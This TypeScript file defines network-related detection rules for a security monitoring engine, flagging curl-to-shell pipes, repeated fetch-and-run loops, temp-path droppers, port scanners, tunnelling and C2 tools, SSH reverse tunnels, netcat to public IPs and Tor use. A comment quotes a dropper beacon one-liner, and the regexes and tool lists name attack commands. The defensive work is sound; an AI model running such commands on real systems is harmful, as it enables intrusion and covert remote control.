import { command, holds, pattern } from '../engine.ts'
import type { Clause } from '../engine.ts'
import { EXFIL_HOSTS, TRUSTED_INSTALL_HOSTS, isInternalHost, isIpLiteral, urlsIn } from '../lists.ts'
import type { Rule } from '../types.ts'
import { isShellLike } from './shells.ts'

const SHELL_OR_INTERPRETER = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:\/usr\/bin\/|\/bin\/|\/usr\/local\/bin\/)?(?:(?:ba|da|z|k|a)?sh|python[\d.]*|perl|ruby|node|php)\b`
/** A download handed straight to a shell or interpreter. */
const FETCH_EXEC: Clause = {
  any: [
    new RegExp(String.raw`\b(?:curl|wget|fetch|lwp-download|aria2c)\b[^|;&]*\|\s*(?:(?:tee|cat)\b[^|;&]*\|\s*)?${SHELL_OR_INTERPRETER}`),
    /(?:ba|z|da)?sh\s+-c\s+["']?\$\(\s*(?:curl|wget)\b/,
    /(?:ba|z)?sh\s+<\(\s*(?:curl|wget)\b/,
    /\b(?:source|\.)\s+<\(\s*(?:curl|wget)\b/,
    /\beval\s+["']?\$\(\s*(?:curl|wget)\b/,
    /\bpython[\d.]*\s+-c\s+["'][^"']*(?:urllib|requests|urlopen)[^"']*\bexec\(/,
  ],
}

/** A shell loop (`while true; do ... done`, `until`, `for`) or `watch` re-running a command. */
const LOOP = /\b(?:while|until|for)\b[^;]*;\s*do\b[\s\S]*\bdone\b|\bwatch\s+(?:-\S+\s+)*(?:-n\s*\S+\s+)?/

/**
 * Whether a shell or interpreter takes its program from stdin: no `-c`/`-e`/`-m` and no
 * script file (`sh`, `bash -s`, `python3`, `python3 -`, `perl`), as at the end of `| sh`.
 */
function readsProgramFromStdin(prog: string, argv: readonly string[]): boolean {
  const args = argv.slice(1)
  // A shell's -c, an interpreter's -c, -e (code) or -m (module): the program is in the arguments.
  const inline = /^(?:ba|da|z|k|a|tc|c|mk)?sh$/.test(prog) ? /^-[a-zA-Z]*c[a-zA-Z]*$/ : /^-[a-zA-Z]*[cem][a-zA-Z]*$/
  if (args.some((a) => inline.test(a))) {
    return false
  }
  if (args.includes('-s')) {
    return true
  }
  const first = args.find((a) => !a.startsWith('-') || a === '-')
  return first === undefined || first === '-'
}

const FETCH = /\b(?:curl|wget|tftp|fetch|aria2c)\b/
const TEMP_OR_HIDDEN_DEST =
  /(?:\s-O\s*|\s-o\s*|--output(?:-document)?[=\s]|>\s*|\s-P\s*)["']?(?:(?:\/tmp|\/var\/tmp|\/dev\/shm|\/run\/shm)\/|\S*\/\.[^/\s.][^/\s]*(?:\s|$))|\bcd\s+(?:\/tmp|\/var\/tmp|\/dev\/shm)\b/
const SHM_OR_HIDDEN_DEST = /(?:\s-O\s*|\s-o\s*|--output(?:-document)?[=\s]|>\s*|\s-P\s*)["']?(?:\/dev\/shm\/|\/run\/shm\/|\S*\/\.[^/\s.][^/\s]*(?:\s|$))/
const MAKE_EXEC =
  /\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+\w*x\w*|0?[0-7]?[1357][0-7]{2})\s|(?:^|[;&|]\s*|&&\s*)(?:\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)\S+|\b(?:ba|da)?sh\s+(?:\/tmp|\/var\/tmp|\/dev\/shm)\//
const INSECURE = /--no-check-certificate|\s-k\b|--insecure\b/

const SSH_FORWARD = /\b(?:ssh|autossh|dbclient|plink)\b[^;|&]*\s-(?:[a-zA-Z]*[RD])\s*(?:\S+:)?\d+|\b(?:ssh|autossh)\b[^;|&]*-o\s*['"]?RemoteForward/
const SSH_WEB_PORT = /\bssh\b[^;|&]*\s-p\s*(?:80|443|53|4444|8080)\b/
/** ssh options that take a value, so the destination is the first other word. */
const SSH_VALUE_OPTIONS = new Set(['-b', '-c', '-D', '-E', '-e', '-F', '-I', '-i', '-J', '-L', '-l', '-m', '-O', '-o', '-p', '-Q', '-R', '-S', '-W', '-w', '-M'])

function sshDestination(line: string): string | undefined {
  const words = line
    .slice(line.search(/\b(?:ssh|autossh|dbclient|plink)\b/))
    .split(/\s+/)
    .slice(1)
  for (let i = 0; i < words.length; i++) {
    const w = words[i] as string
    if (w.startsWith('-')) {
      if (SSH_VALUE_OPTIONS.has(w)) {
        i++
      }
      continue
    }
    return w
      .replace(/^[^@]*@/, '')
      .replace(/:.*$/, '')
      .toLowerCase()
  }
  return undefined
}

const BARE_IP = /(?:^|[\s@/])(\d{1,3}(?:\.\d{1,3}){3})(?=$|[\s:/])/g

/** A source that nobody vetted: cleartext or raw-IP from outside, a paste/file-drop host. */
function untrustedSource(line: string): string | undefined {
  for (const m of line.matchAll(BARE_IP)) {
    if (!isInternalHost(m[1] as string) && !/https:\/\/[^\s/]*$/.test(line.slice(0, m.index + 1))) {
      return m[1]
    }
  }
  for (const u of urlsIn(line)) {
    if (EXFIL_HOSTS.test(u.host) || (!isInternalHost(u.host) && (u.scheme !== 'https' || isIpLiteral(u.host)))) {
      return u.host
    }
  }
  return INSECURE.test(line) ? 'certificate checks off' : undefined
}

export const networkRules: readonly Rule[] = [
  {
    id: 'download_piped_to_shell',
    category: 'suspicious_network',
    severity: 'high',
    scope: 'static',
    description: 'A download piped straight into a shell or interpreter (not a known installer)',
    test: (_, c) => {
      if (!holds(FETCH_EXEC, c.line)) {
        return false
      }
      const urls = urlsIn(c.line)
      const vetted = (u: { scheme: string; host: string; hostPath: string }) => isInternalHost(u.host) || (u.scheme === 'https' && TRUSTED_INSTALL_HOSTS.test(u.hostPath))
      if (urls.length > 0 && urls.every(vetted)) {
        return false
      }
      return urls.find((u) => !vetted(u))?.host ?? 'unresolved URL'
    },
  },
  {
    // Atomic Red Team T1105 / T1059.004: `while true; do curl -s http://host/s.sh | sh; sleep 60; done`.
    // Fetching and running a script again and again is a dropper's beacon whatever the host:
    // an internal or https source does not make it an installer.
    id: 'download_exec_loop',
    category: 'suspicious_network',
    severity: 'high',
    scope: 'static',
    description: 'A download piped into a shell or interpreter over and over (a dropper or C2 beacon loop)',
    test: (_, c) => {
      if (!LOOP.test(c.line) || !holds(FETCH_EXEC, c.line)) {
        return false
      }
      return urlsIn(c.line)[0]?.host ?? 'unresolved URL'
    },
  },
  {
    // The same seen from the shell: its stdin is a pipe whose writer (a sibling in the
    // pipeline) holds a TCP connection. Catches `curl ... | sh` whatever the command line
    // says (a script file, an alias), while the download is still streaming.
    id: 'network_pipe_to_interpreter',
    category: 'suspicious_network',
    severity: 'high',
    scope: 'dynamic',
    description: 'A shell or interpreter running a program piped from a process with a network connection',
    test: (p, c) => {
      const from = p.stdinFrom
      if (!from || p.stdio?.stdin?.kind !== 'pipe' || !isShellLike(c) || !readsProgramFromStdin(c.prog, p.argv)) {
        return false
      }
      const remote = from.connections.find((x) => x.state !== 'LISTEN')
      if (!remote) {
        return false
      }
      const urls = urlsIn(from.argv.join(' '))
      if (urls.length > 0 && urls.every((u) => u.scheme === 'https' && TRUSTED_INSTALL_HOSTS.test(u.hostPath))) {
        return false
      }
      return `stdin from ${from.comm} connected to ${remote.remoteAddress}:${remote.remotePort}`
    },
  },
  {
    id: 'download_exec_temp',
    category: 'suspicious_network',
    severity: 'high',
    scope: 'static',
    description: 'A payload downloaded into a temp or hidden path and made executable',
    test: (_, c) => {
      const line = c.line
      if (!FETCH.test(line) || !MAKE_EXEC.test(line)) {
        return false
      }
      const source = untrustedSource(line)
      if (TEMP_OR_HIDDEN_DEST.test(line)) {
        return source ?? (SHM_OR_HIDDEN_DEST.test(line) ? 'hidden or /dev/shm destination' : false)
      }
      // Anywhere else, only a raw public IP or cleartext source counts.
      return source !== undefined && source !== 'certificate checks off' ? source : false
    },
  },
  pattern({
    id: 'network_scanner',
    category: 'suspicious_network',
    severity: 'high',
    description: 'Network or port scanner',
    when: {
      any: [
        command(['nmap', 'masscan', 'zmap', 'zgrab', 'zgrab2', 'rustscan', 'naabu', 'unicornscan', 'hping3', 'nping', 'pnscan', 'fscan', 'arp-scan', 'netdiscover']),
        /\b(?:nc|ncat|netcat)\s+[^;|&]*-\w*z\w*[^;|&]*\s\d+-\d+\b/,
        /\bfor\s+\w+\s+in\s+[^;]*(?:\{\d+\.\.\d+\}|seq\s+\d+\s+\d+)[^;]*;\s*do\b[^;]*(?:\/dev\/tcp\/|\bnc\s+-\w*z)/,
      ],
    },
  }),
  pattern({
    id: 'tunnel_tool',
    category: 'suspicious_network',
    severity: 'high',
    description: 'Tunnelling or reverse-proxy tool that exposes the node to the outside',
    when: command([
      'ngrok',
      'chisel',
      'frpc',
      'frps',
      'gost',
      'iodine',
      'iodined',
      'dnscat',
      'dnscat2',
      'dns2tcp',
      'dns2tcpc',
      'ligolo',
      'ligolo-ng',
      'ligolo-agent',
      'revsocks',
      'rpivot',
      'ptunnel',
      'ptunnel-ng',
      'icmpsh',
      'pwncat',
      'pwncat-cs',
      'sliver-client',
      'merlinagent',
    ]),
  }),
  {
    id: 'ssh_reverse_tunnel',
    category: 'suspicious_network',
    severity: 'medium',
    scope: 'static',
    description: 'SSH remote port forward, SOCKS proxy, or SSH on a web port, to a host outside the cluster (reverse tunnel)',
    test: (_, c) => {
      const forward = SSH_FORWARD.test(c.line)
      if (!forward && !SSH_WEB_PORT.test(c.line)) {
        return false
      }
      // A forward to anything outside the cluster; SSH on a web port only to a raw IP
      // (ssh.github.com:443 is how GitHub is reached through strict firewalls).
      const host = sshDestination(c.line)
      return host !== undefined && !isInternalHost(host) && (forward || isIpLiteral(host)) ? host : false
    },
  },
  {
    id: 'netcat_public_ip',
    category: 'suspicious_network',
    severity: 'medium',
    scope: 'static',
    description: 'netcat, telnet or socat connecting to a public IP address',
    test: (_, c) => {
      const m =
        /(?:^|[\s;|&(/])(?:nc|ncat|netcat|telnet|nc\.traditional|nc\.openbsd)\s+(?:-[a-zA-Z]*\s+(?:\d+\s+)?)*(\d{1,3}(?:\.\d{1,3}){3})\s+\d+|\bsocat\b[^;|&]*\btcp\d?(?:-connect)?:(\d{1,3}(?:\.\d{1,3}){3}):\d+/i.exec(
          c.line,
        )
      const host = m?.[1] ?? m?.[2]
      return host !== undefined && !isInternalHost(host) && !/\s-\w*z/.test(c.line) ? host : false
    },
  },
  pattern({
    id: 'anonymizing_proxy',
    category: 'suspicious_network',
    severity: 'medium',
    description: 'Traffic routed through Tor or proxychains',
    when: { any: [command(['tor', 'torsocks', 'proxychains', 'proxychains4', 'torify']), /\.onion\b/] },
  }),
]
